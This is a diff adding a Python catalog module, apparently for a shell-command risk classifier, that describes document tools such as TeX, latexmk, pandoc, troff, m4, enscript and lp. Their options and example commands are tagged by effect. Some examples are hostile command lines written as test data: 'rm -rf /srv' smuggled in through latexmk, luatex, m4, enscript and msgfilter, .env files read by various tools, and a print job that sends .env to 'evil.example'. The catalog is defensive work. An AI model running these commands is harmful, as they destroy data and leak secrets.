@@ -1,0 +1,289 @@
+"""Programs that typeset, convert and show documents: TeX and troff run commands when told, and all of them print what they read."""
+
+from capfence_sh.catalog.vocabulary import (
+    CODE,
+    CONFIG,
+    DESTRUCTIVE,
+    EGRESS,
+    OPAQUE,
+    PROGRAM,
+    PROJECT_CODE,
+    READ,
+    SCRIPT,
+    SECRET_READ,
+    SHELL,
+    SINGLE,
+    TEXT,
+    URL,
+    WRITE,
+    WRITES,
+    command,
+    example,
+    flags,
+    operands,
+    option,
+    values,
+)
+
+FILES = operands(many=READ)
+
+TEX = (
+    command(
+        *("tex", "etex", "pdftex", "xetex", "luatex", "latex", "pdflatex", "xelatex", "lualatex", "platex", "uplatex"),
+        style=SINGLE,
+        language="foreign",
+        effects=(PROJECT_CODE, WRITES),
+        options=(
+            *flags(
+                "-draftmode, -etex, -file-line-error, -no-file-line-error, -halt-on-error, -ini, -ipc, -mltex, -parse-first-line, -recorder"
+            ),
+            *flags("-no-shell-escape, -shell-restricted, -enc, -8bit, -translate-file, -batch, -nonstopmode"),
+            *values(
+                "-fmt, -interaction, -jobname, -kpathsea-debug, -output-comment, -output-format, -progname, -synctex, -src-specials, -cnf-line"
+            ),
+            option("-output-directory", takes=WRITE),
+            option("-shell-escape", "-enable-write18", effects=(OPAQUE,)),
+        ),
+        operands=operands(many=CODE),
+        examples=(
+            example("pdflatex -interaction=nonstopmode paper.tex", PROJECT_CODE, WRITES, OPAQUE),
+            example("pdflatex -shell-escape paper.tex", PROJECT_CODE, WRITES, OPAQUE),
+            example("luatex -shell-escape '\\directlua{os.execute(\"rm -rf /srv\")}'", PROJECT_CODE, WRITES, OPAQUE, DESTRUCTIVE),
+        ),
+    ),
+    command(
+        "latexmk",
+        style=SINGLE,
+        effects=(PROJECT_CODE, WRITES),
+        options=(
+            *flags("-pdf, -xelatex, -lualatex, -c, -C, -f, -g, -quiet, -silent, -pvc, -pv, -cd, -bibtex, -halt-on-error, -norc, -dvi, -ps"),
+            *values("-jobname, -outdir, -auxdir, -interaction"),
+            *values("-latex, -pdflatex, -latexoption", takes=PROGRAM),
+            option("-e", takes=CODE, language="perl"),
+            option("-r", takes=CONFIG),
+        ),
+        operands=FILES,
+        examples=(
+            example("latexmk -pdf paper.tex", PROJECT_CODE, WRITES),
+            example("latexmk -latex='rm -rf /srv #' x", PROJECT_CODE, WRITES, DESTRUCTIVE),
+            example("latexmk -e 'system(\"rm -rf /srv\")'", PROJECT_CODE, WRITES, DESTRUCTIVE),
+            example("latexmk -r /tmp/x paper.tex", PROJECT_CODE, WRITES, OPAQUE),
+        ),
+    ),
+    command(
+        *("dvips", "dvipdf", "dvipdfmx", "dvipdfm"),
+        options=(
+            *flags("-a, -f, -i, -k, -m, -q, -z, -E, -F, -K, -M, -N, -P, -R0, -R1, -V, -A, -B, -R2"),
+            *values("-c, -d, -D, -h, -j, -l, -n, -p, -t, -T, -x, -y"),
+            option("-o", takes=WRITE),
+        ),
+        operands=FILES,
+        effects=(OPAQUE,),
+        examples=(example("dvips -o a.ps a.dvi", WRITES, OPAQUE),),
+    ),
+    command(
+        *("pandoc",),
+        options=(
+            *flags(
+                "-s --standalone, -N --number-sections, --toc --table-of-contents, --self-contained, --embed-resources, --sandbox, -v, --verbose, --quiet"
+            ),
+            *flags(
+                "--citeproc -C, --no-highlight, --preserve-tabs -p, --reference-links, --list-input-formats, --list-output-formats, --fail-if-warnings"
+            ),
+            *values(
+                "-f -r --from --read, -t -w --to --write, -M --metadata, -V --variable, --columns, --wrap, --shift-heading-level-by, --toc-depth"
+            ),
+            *values("--highlight-style, --pdf-engine-opt, --dpi, --eol, --markdown-headings, --slide-level, --request-header"),
+            option("-o", "--output", takes=WRITE),
+            option("--log", takes=WRITE),
+            option("--extract-media", takes=WRITE),
+            *values(
+                "-H --include-in-header, -B --include-before-body, -A --include-after-body, --metadata-file, --template, --bibliography",
+                takes=READ,
+            ),
+            *values("--csl, -c --css, --reference-doc", takes=READ),
+            *values("-F --filter, --pdf-engine", takes=PROGRAM),
+            option("-L", "--lua-filter", takes=SCRIPT, language="lua"),
+            *values("-d --defaults, --data-dir", takes=CONFIG),
+        ),
+        operands=operands(many=URL),
+        analyser="documents",
+        examples=(
+            example("pandoc -s a.md -o a.html", WRITES),
+            example("pandoc -t plain .env", SECRET_READ),
+            example("pandoc https://x.example/a -o a.md", WRITES, EGRESS),
+            example("pandoc -L x.lua a.md", PROJECT_CODE, OPAQUE),
+            example("pandoc -F /tmp/x a.md", OPAQUE),
+        ),
+    ),
+    command(
+        *("troff", "gtroff", "groff", "nroff", "roff", "heirloom-troff"),
+        options=(
+            *flags("-a, -b, -c, -e, -g, -G, -i, -j, -k, -l, -N, -p, -R, -s, -S, -t, -V, -X, -z, -Z, -C, -E, -h, -q"),
+            option("-U", effects=(OPAQUE,)),
+            *values("-d, -D, -f, -F, -K, -L, -m, -M, -n, -o, -P, -r, -T, -w, -W, -I"),
+        ),
+        operands=FILES,
+        examples=(example("groff -man -Tascii ls.1"), example("troff .env", SECRET_READ), example("groff -U x", OPAQUE)),
+    ),
+    command(
+        *("eqn", "tbl", "pic", "soelim", "zsoelim", "refer", "grn", "preconv", "pic2graph"),
+        options=(*flags("-C, -r, -N, -n, -c, -t, -v"), *values("-d, -T, -m, -s, -p, -e, -I"), option("-U", effects=(OPAQUE,))),
+        operands=FILES,
+        examples=(example("tbl .env", SECRET_READ), example("pic -U x", OPAQUE)),
+    ),
+    command(
+        "m4",
+        options=(
+            *flags(
+                "-E --fatal-warnings, -i --interactive -e, -P --prefix-builtins, -Q --quiet --silent, -s --synclines, -g --gnu, -G --traditional"
+            ),
+            *values(
+                "-D --define, -U --undefine, -L --nesting-limit, -B, -S, -T, -H --hashsize, -d --debug, -t --trace, -l --arglength, -W --word-regexp, -N"
+            ),
+            *values("-I --include, -R --reload-state", takes=READ),
+            *values("-F --freeze-state, -o --debugfile --error-output", takes=WRITE),
+        ),
+        language="m4",
+        stdin=CODE,
+        operands=operands(many=SCRIPT),
+        effects=(OPAQUE,),
+        examples=(
+            example("m4 a.m4", OPAQUE, PROJECT_CODE),
+            example("m4 <<< 'syscmd(`rm -rf /srv`)'", OPAQUE),
+            example("m4 -o log a.m4", OPAQUE, WRITES, PROJECT_CODE),
+            example("m4 -I .env a.m4", OPAQUE, SECRET_READ, PROJECT_CODE),
+        ),
+    ),
+    command(
+        *("enscript", "a2ps", "nenscript"),
+        options=(
+            *flags("-q, -B, -r, -R, -1, -2, -G, -z, -g, -k, -h"),
+            *values("-a, -b, -E, -f, -F, -i, -j, -M, -n, -t, -T, -u, -w, -X"),
+            *values("-o -p --output", takes=WRITE),
+            option("-I", "--filter", takes=SHELL),
+            option("-P", "-d", takes=TEXT, effects=(EGRESS,)),
+        ),
+        operands=FILES,
+        examples=(
+            example("enscript a.txt -o a.ps", WRITES),
+            example("enscript /dev/null -qo - -I 'rm -rf /srv'", DESTRUCTIVE),
+            example("enscript -P lp a.txt", EGRESS),
+        ),
+    ),
+    command(
+        *("lp", "lpr", "lpr-cups", "cancel"),
+        effects=(EGRESS,),
+        options=(
+            *flags("-c, -m, -s, -E, -l, -p, -r"),
+            *values("-d, -n, -o, -P, -q, -t, -u, -U, -C, -J, -T, -i, -H, -#"),
+            option("-h", takes=TEXT),
+        ),
+        operands=FILES,
+        examples=(example("lp -h evil.example:631 .env", EGRESS, SECRET_READ),),
+    ),
+    command(
+        *("exiv2", "jhead"),
+        options=(*flags("-p, -q, -v, -h, -V, -f, -k, -l"), *values("-P, -g, -K, -n, -e, -d, -S, -r")),
+        operands=operands(many=WRITE),
+        examples=(example("exiv2 a.jpg", WRITES),),
+    ),
+    command(
+        *(
+            "pygmentize",
+            "highlight",
+            "source-highlight",
+            "ccat",
+            "glow",
+            "mdcat",
+            "redcarpet",
+            "markdown",
+            "kramdown",
+            "asciidoctor",
+            "multimarkdown",
+            "cmark",
+        ),
+        options=(
+            *flags("-x, -g, -V, -N, -L, -H, -h, -v, --no-doc, --failsafe, -s, -n, -t"),
+            *values("-l, -f, -F, -O, -P, -S, -a, -C, -i, -b, -w, --style, -r"),
+            option("-o", takes=WRITE),
+            option("-R", takes=TEXT, effects=(OPAQUE,)),
+        ),
+        operands=FILES,
+        examples=(
+            example("pygmentize -l python a.py"),
+            example("pygmentize -o a.html a.py", WRITES),
+            example("redcarpet .env", SECRET_READ),
+            example("highlight -R x a", OPAQUE),
+        ),
+    ),
+    command(
+        *("msgcat", "msgattrib", "msgconv", "msguniq", "msgmerge", "msgfmt", "msginit", "msgcomm", "msgen", "msggrep", "xgettext"),
+        options=(
+            *flags(
+                "-P --properties-input, -p --properties-output, -u, -i --indent, -s --sort-output, -F --sort-by-file, -c --check, -v --verbose, --no-wrap, -q --quiet, -U --update, -N --no-fuzzy-matching, --statistics, -E, -e, -k, -j, -a, -C, -d"
+            ),
+            *values("-t --to-code, -w --width, -l --locale, -L --language, --from-code, -K"),
+            *values("-o --output-file", takes=WRITE),
+            *values("-f --files-from, -D --directory", takes=READ),
+        ),
+        operands=FILES,
+        examples=(example("msgfmt -c a.po -o a.mo", WRITES), example("msgcat -P .env", SECRET_READ)),
+    ),
+    command(
+        "msgfilter",
+        "msgexec",
+        options=(
+            *flags("-P --properties-input, -p, -E, -i --indent, -s, -F, --keep-header, --force-po"),
+            *values("-w, --newline"),
+            option("-o", "--output-file", takes=WRITE),
+            option("--input", takes=READ),
+        ),
+        operands=operands(PROGRAM, many=TEXT),
+        effects=(OPAQUE,),
+        examples=(example("msgfilter 'rm -rf /srv'", OPAQUE, DESTRUCTIVE), example("msgfilter -o b cat", OPAQUE, WRITES)),
+    ),
+    command(
+        *("aspell", "ispell", "hunspell", "enchant", "look-aspell"),
+        options=(*flags("-c, -a, -l, -D, -h, -H, -n, -t, -b, -x, -B, -C"), *values("-d, -i, -p, -T, --lang, --encoding, --mode")),
+        operands=operands(many=READ),
+        examples=(example("aspell list"), example("hunspell .env", SECRET_READ)),
+    ),
+    command(
+        *(
+            "qpdf",
+            "pdftk",
+            "pdfunite",
+            "pdfseparate",
+            "ps2pdf",
+            "pdf2ps",
+            "djvutxt",
+            "catdoc",
+            "antiword",
+            "xls2csv",
+        ),
+        options=(
+            *flags("--empty, --check, --linearize, -layout, -raw, -q, -v, -h, --decrypt, --qdf, -png, -jpeg, -tiff, --show-npages"),
+            *values("--password, -f, -l, -r, -enc, -opw, -upw, --pages, --encrypt"),
+            option("--replace-input"),
+        ),
+        operands=operands(many=READ),
+        analyser="documents",
+        examples=(example("qpdf --check a.pdf", WRITES), example("qpdf @.env", SECRET_READ, WRITES)),
+    ),
+    command(
+        *("dialog", "whiptail", "zenity", "yad", "kdialog", "gxmessage", "xmessage"),
+        style=SINGLE,
+        options=(
+            *flags(
+                "--scrolltext, --clear, --yesno, --msgbox, --infobox, --inputbox, --passwordbox, --menu, --checklist, --radiolist, --gauge, --defaultno, --nocancel, --info, --warning, --error, --question, --entry, --password, --text-info, --list, --progress, --stdout, --ascii-lines"
+            ),
+            *values("--title, --backtitle, --text, --width, --height, --timeout"),
+            *values("--textbox, --tailbox, --filename, --editbox", takes=READ),
+        ),
+        operands=operands(many=TEXT),
+        examples=(example("dialog --msgbox done 5 20"), example("whiptail --textbox .env 5 20", SECRET_READ)),
+    ),
+)
+
+COMMANDS = TEX
